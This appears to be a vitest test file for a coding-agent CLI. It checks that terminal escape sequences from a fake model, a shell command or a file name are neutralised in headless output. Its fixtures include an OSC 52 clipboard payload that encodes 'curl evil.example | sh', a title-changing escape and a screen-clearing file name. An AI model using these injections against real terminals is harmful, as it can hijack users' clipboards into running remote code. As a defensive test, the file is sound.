// Issue 33 (8): what a hostile model, command or file name says never drives the user's terminal
// in a headless run: OSC 52 (clipboard), titles, CSI and C1 reach stdout and stderr as text.
import { startFakeMessagesApi, type FakeBrain, type FakeMessagesApi } from '@infinity-code/runtime/testing';
import { afterEach, describe, expect, it } from 'vitest';
import { cleanupTemps, gitRepo, runCli } from './support/cli.js';
import { toolResults, type Msg } from './support/model.js';

let api: FakeMessagesApi | undefined;
afterEach(async () => {
  await api?.close();
  api = undefined;
  cleanupTemps();
});

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
// eslint-disable-next-line no-control-regex -- the control characters a terminal would obey
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

describe('terminal safety, headless', () => {
  it.each([['text'], ['stream-json']])('--output-format %s: no control sequence from the model, a command or a file name reaches the terminal', async (format) => {
    const brain: FakeBrain = (body) => {
      const done = toolResults((body.messages ?? []) as Msg[]).size;
      if (done === 0) {
        return {
          text: `Notes ${OSC52}`,
          toolUse: { name: 'execute_command', input: { command: `printf 'out \\033]0;pwned\\007 \\233 31m\\n'; touch "$(printf 'evil\\033[2Jname')"` } },
        };
      }
      if (done === 1) return { toolUse: { name: 'list_files', input: {} } };
      return { text: `Answer ${OSC52} \u009b31m end` };
    };
    api = await startFakeMessagesApi({ brain });
    const repo = gitRepo({ 'a.txt': 'a\n' });
    // --verbose: the progress on stderr (tool calls, their output, the notes) is what could carry them there.
    const r = await runCli(['-p', 'go', '--output-format', format, '--verbose'], { cwd: repo, env: { ANTHROPIC_API_KEY: 'k', ANTHROPIC_BASE_URL: api.url } });
    expect(r.code, r.stderr).toBe(4);
    expect(r.stdout).not.toMatch(CONTROL);
    expect(r.stderr).not.toMatch(CONTROL);
    expect(r.stdout).toContain('\\u001b]52;c;');
    if (format === 'stream-json') {
      // Still JSON, the data exact.
      const last = JSON.parse(r.stdout.trim().split('\n').at(-1)!) as { result: string };
      expect(last.result).toBe(`Answer ${OSC52} \u009b31m end`);
    }
  });
});
